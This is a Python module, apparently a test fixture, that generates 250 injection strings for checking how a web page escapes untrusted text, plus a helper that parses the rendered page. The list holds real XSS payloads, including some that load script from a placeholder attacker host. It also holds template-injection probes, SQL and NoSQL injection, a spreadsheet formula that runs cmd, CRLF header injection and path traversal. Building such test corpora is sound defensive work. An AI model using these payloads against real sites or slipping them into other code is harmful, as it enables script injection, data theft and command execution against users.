"""250 texts that would be more than text wherever somebody forgot, and what a real parser makes of a page."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

from selectolax.lexbor import LexborHTMLParser

_ELEMENTS = (
    "<script>planted()</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt/x>planted()</sCrIpT\t>",
    "<img src=x onerror=planted()>",
    "<svg/onload=planted()>",
    "<iframe srcdoc='<script>planted()</script>'></iframe>",
    "<object data=data:text/html,planted>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=csrf><button>Retry</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=planted()>",
    "<math><mi xlink:href=javascript:planted()>",
    "<template><img src=x onerror=planted()></template>",
    "<plaintext>",
    "<xmp>",
    "<noscript><p title='</noscript><img src onerror=planted()>'>",
    "<body onload=planted()>",
    "<frameset onload=planted()>",
    "<x-planted is=planted>",
    "<div hx-get=/jobs hx-trigger=load hx-on:click=planted()>",
    "<svg><foreignObject><script>planted()</script></foreignObject></svg>",
    "<svg><animate onbegin=planted() attributeName=x>",
    "<!doctype html><html manifest=//evil.example>",
)
_WAYS_OUT = (
    '">',
    "'>",
    ">",
    "</title>",
    "</textarea>",
    "</pre>",
    "</code>",
    "</td></tr></table>",
    "</details></section>",
    "</script>",
    "</select></form>",
    "-->",
    "--!>",
    "]]>",
)
_HANDLERS = ("onclick=planted()", "autofocus onfocus=planted()", "style=color:red", "hx-get=//evil.example", "id=main")
_QUOTES = ('" {0} x="', "' {0} x='", " {0} ", "` {0} `", '"/{0}/"')
_ADDRESSES = (
    "javascript:planted()",
    "JaVaScRiPt:planted()",
    "java\tscript:planted()",
    "java\nscript:planted()",
    "\x01javascript:planted()",
    "&#106;avascript:planted()",
    "javascript&colon;planted()",
    "data:text/html,<script>planted()</script>",
    "vbscript:planted",
    "//evil.example/planted",
    "\\\\evil.example\\planted",
    "/\\evil.example",
    "https://evil.example/",
    "../../login?next=//evil.example#",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "?state=failed&verb=delete",
    "#main",
    "~/~..~",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ ask.options.users.key }}",
    "{% include 'error.html' %}",
    "{% raw %}<b>{% endraw %}",
    "{# planted #}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<?php planted(); ?>",
    "[[${7*7}]]",
    "%(planted)s {planted} {0} %s %n",
    "{{constructor.constructor('planted()')()}}",
    "@{planted}",
    "$(planted) `planted`",
)
_CONTROLS = (
    "\x00",
    "\x00<b>",
    "<\x00script>planted()</script>",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;planted\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x07\x08\x7f\x85",
    "\r\nSet-Cookie: planted=1",
    "\r\n\r\n<script>planted()</script>",
    "a\vb\fc",
    "\u202eplanted\u202c",
    "\u2066\u2067\u2068planted\u2069",
    "\u200e\u200f\u061c",
    "\u2028\u2029",
    "\u200b\u200c\u200d\ufeff",
    "\ud800",
    "\udfff<b>",
    "\ud83d",
    "\ufffe\uffff",
)
_LIKENESSES = (
    "\uff1cscript\uff1eplanted()\uff1c/script\uff1e",
    "<\u017fcript>planted()</\u017fcript>",
    "&lt;script&gt;planted()&lt;/script&gt;",
    "&#60;script&#62;planted()&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "%3Cscript%3Eplanted()%3C/script%3E",
    "+ADw-script+AD4-",
    "\xc0\xbcscript\xc0\xbe",
    "\u2039script\u203a",
    "PHNjcmlwdD4=",
)
_OTHERS = (
    "</style><script>planted()</script>",
    "};body{display:none}/*",
    "expression(planted())",
    "@import '//evil.example/x.css'",
    "url(javascript:planted())",
    "[planted](javascript:planted())",
    "![x](//evil.example/x.png)",
    "<javascript:planted()>",
    "`<b>` **bold** _it_",
    "| a | b |\n|---|---|\n| <b> | x |",
    "# planted\n> quoted\n```html\n<b>\n```",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "'; drop table jobs; --",
    '" or 1=1 --',
    '{"$gt": ""}',
    '{"__proto__": {"x": 1}}',
    '"}</script><script>planted()</script>',
    "*3\r\n$3\r\nSET\r\n",
    "(hidden)",
    "None",
    "null",
    " ",
    "<",
    "&",
    "\"'`<>&;=/\\",
    "<" * 1_000,
    "<b " * 10_000,
    "A" * 30_000,
    "\u0301" * 5_000,
    "<i>" * 3_000 + "</i>" * 3_000,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 200,
    "\u05d0\u05d1 \u0645\u0647\u0645 <b>",
    "\n" * 500,
)


def _made() -> Iterator[str]:
    yield from _ELEMENTS
    for handler in _HANDLERS:
        yield from (quotes.format(handler) for quotes in _QUOTES)
    yield from (*_ADDRESSES, *_TEMPLATES, *_CONTROLS, *_LIKENESSES, *_OTHERS)
    for number, way_out in enumerate(_WAYS_OUT * len(_ELEMENTS)):
        yield way_out + _ELEMENTS[(number + number // len(_WAYS_OUT)) % len(_ELEMENTS)]


COUNT = 250
TEXTS = list(dict.fromkeys(_made()))[:COUNT]

# What turns text around, drives a terminal, or is no character: nowhere in a page.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")


def storable(text: str) -> str:
    """The text as a column can hold it: of half a character it has a question mark."""
    return text.encode("utf-8", "replace").decode()


def typed(text: str) -> str:
    """As much of it as somebody can type into a field."""
    written = text.encode("utf-8", "backslashreplace").decode()
    return written[:150].replace("\0", "?").strip() or f"blank{len(text)}"


def in_json(text: str) -> str:
    """The text as JSON holds it, whatever it is."""
    return json.dumps(text)


Shape = list[tuple[str, tuple[str, ...]]]


def shape_of(page: str) -> tuple[Shape, list[str]]:
    """Every element as a browser sees it, with the names of its attributes, and the addresses that they lead to."""
    elements: Shape = []
    leads: list[str] = []
    root = LexborHTMLParser(page).root
    assert root is not None
    for node in root.traverse():
        elements.append((str(node.tag), tuple(sorted(node.attributes))))
        for name in ("href", "src", "action", "formaction", "hx-get", "srcset", "poster"):
            if name in node.attributes:
                leads.append(node.attributes[name] or "")
    return elements, leads
